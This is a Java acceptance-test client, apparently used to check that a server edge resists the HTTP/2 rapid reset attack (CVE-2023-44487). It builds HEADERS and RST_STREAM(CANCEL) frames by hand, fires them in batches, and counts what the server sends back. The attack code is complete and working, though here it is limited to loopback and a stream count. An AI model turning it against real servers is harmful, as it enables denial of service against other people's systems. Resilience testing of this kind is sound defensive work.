package dev.prodstack.acceptance.attack;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicInteger;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/**
 * The HTTP/2 rapid reset attack (CVE-2023-44487) on one connection, written frame by frame: HEADERS for a new stream
 * immediately followed by RST_STREAM(CANCEL), stream after stream, without waiting for any answer. A reader counts
 * what the server sends back (responses, its own resets, GOAWAY). Bounded by a stream count; only to loopback.
 */
final class RapidResetClient {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1);
    private static final int HEADERS = 0x1;
    private static final int RST_STREAM = 0x3;
    private static final int SETTINGS = 0x4;
    private static final int GOAWAY = 0x7;
    private static final int CANCEL = 0x8;
    private static final int BATCH = 50;

    /** What one connection achieved. */
    record Outcome(
            int streamsSent, int responses, int serverResets, boolean goaway, int goawayLastStream, String ended) {
        /** Streams nginx handled: answered, or refused with its own RST_STREAM. */
        int handled() {
            return responses + serverResets;
        }

        /** The server ended the connection (GOAWAY, close or reset), not this client's read timeout. */
        boolean endedByServer() {
            return goaway || ended.equals("closed") || ended.equals("reset");
        }
    }

    private final AtomicInteger responses = new AtomicInteger();
    private final AtomicInteger serverResets = new AtomicInteger();
    private volatile boolean goaway;
    private volatile int goawayLastStream = -1;
    private volatile boolean ended;
    private volatile String endReason = "open";

    /** Opens an h2 connection (ALPN) to 127.0.0.1:port and resets up to {@code maxStreams} streams on it. */
    static Outcome attack(SSLContext tls, int port, String requestIdPrefix, int maxStreams) throws IOException {
        return new RapidResetClient().run(tls, port, requestIdPrefix, maxStreams);
    }

    private Outcome run(SSLContext tls, int port, String requestIdPrefix, int maxStreams) throws IOException {
        try (SSLSocket socket = (SSLSocket) tls.getSocketFactory().createSocket("127.0.0.1", port)) {
            SSLParameters parameters = socket.getSSLParameters();
            parameters.setApplicationProtocols(new String[] {"h2"});
            socket.setSSLParameters(parameters);
            socket.startHandshake();
            if (!"h2".equals(socket.getApplicationProtocol())) {
                throw new IllegalStateException("the edge did not negotiate h2: " + socket.getApplicationProtocol());
            }
            OutputStream out = socket.getOutputStream();
            Thread reader = new Thread(() -> read(socket, out), "rapid-reset-reader");
            reader.setDaemon(true);
            reader.start();
            synchronized (out) {
                out.write(PREFACE);
                out.write(frame(SETTINGS, 0, 0, new byte[0]));
                out.flush();
            }
            int sent = 0;
            try {
                while (sent < maxStreams && !goaway && !ended) {
                    ByteBuffer batch = ByteBuffer.allocate(BATCH * 200);
                    for (int i = 0; i < BATCH && sent < maxStreams; i++, sent++) {
                        int stream = 2 * sent + 1;
                        batch.put(frame(HEADERS, 0x5, stream, headerBlock(requestIdPrefix + stream)));
                        batch.put(frame(
                                RST_STREAM,
                                0,
                                stream,
                                ByteBuffer.allocate(4).putInt(CANCEL).array()));
                    }
                    synchronized (out) {
                        out.write(batch.array(), 0, batch.position());
                        out.flush();
                    }
                }
            } catch (IOException e) {
                // the server closed the connection: that ends this connection's attack
            }
            try {
                reader.join(5_000);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
            return new Outcome(sent, responses.get(), serverResets.get(), goaway, goawayLastStream, endReason);
        }
    }

    private void read(SSLSocket socket, OutputStream out) {
        try {
            socket.setSoTimeout(5_000);
            DataInputStream in = new DataInputStream(socket.getInputStream());
            while (true) {
                int length = in.readUnsignedShort() << 8 | in.readUnsignedByte();
                int type = in.readUnsignedByte();
                int flags = in.readUnsignedByte();
                in.readInt();
                byte[] payload = new byte[length];
                in.readFully(payload);
                switch (type) {
                    case HEADERS -> responses.incrementAndGet();
                    case RST_STREAM -> serverResets.incrementAndGet();
                    case GOAWAY -> {
                        goawayLastStream = ByteBuffer.wrap(payload).getInt() & 0x7fffffff;
                        goaway = true;
                    }
                    case SETTINGS -> {
                        if ((flags & 0x1) == 0) {
                            synchronized (out) {
                                out.write(frame(SETTINGS, 0x1, 0, new byte[0]));
                                out.flush();
                            }
                        }
                    }
                    default -> {
                        // DATA, WINDOW_UPDATE, PING: not needed to keep resetting
                    }
                }
            }
        } catch (java.io.EOFException e) {
            endReason = "closed";
        } catch (java.net.SocketTimeoutException e) {
            endReason = "read timeout";
        } catch (IOException e) {
            endReason = "reset";
        } finally {
            ended = true;
        }
    }

    /** GET /health with an x-request-id, HPACK without indexing or Huffman (RFC 7541 6.1, 6.2.2). */
    private static byte[] headerBlock(String requestId) {
        ByteBuffer block = ByteBuffer.allocate(160);
        block.put((byte) 0x82); // :method GET (static index 2)
        block.put((byte) 0x87); // :scheme https (static index 7)
        literal(block, 4, "/health"); // :path
        literal(block, 1, "localhost"); // :authority
        block.put((byte) 0x00);
        string(block, "x-request-id");
        string(block, requestId);
        byte[] bytes = new byte[block.position()];
        block.flip().get(bytes);
        return bytes;
    }

    private static void literal(ByteBuffer block, int nameIndex, String value) {
        block.put((byte) nameIndex);
        string(block, value);
    }

    private static void string(ByteBuffer block, String value) {
        byte[] bytes = value.getBytes(StandardCharsets.US_ASCII);
        block.put((byte) bytes.length); // < 127: fits the 7-bit prefix
        block.put(bytes);
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
        frame.put((byte) (payload.length >>> 16))
                .put((byte) (payload.length >>> 8))
                .put((byte) payload.length);
        frame.put((byte) type).put((byte) flags).putInt(stream & 0x7fffffff).put(payload);
        return frame.array();
    }
}
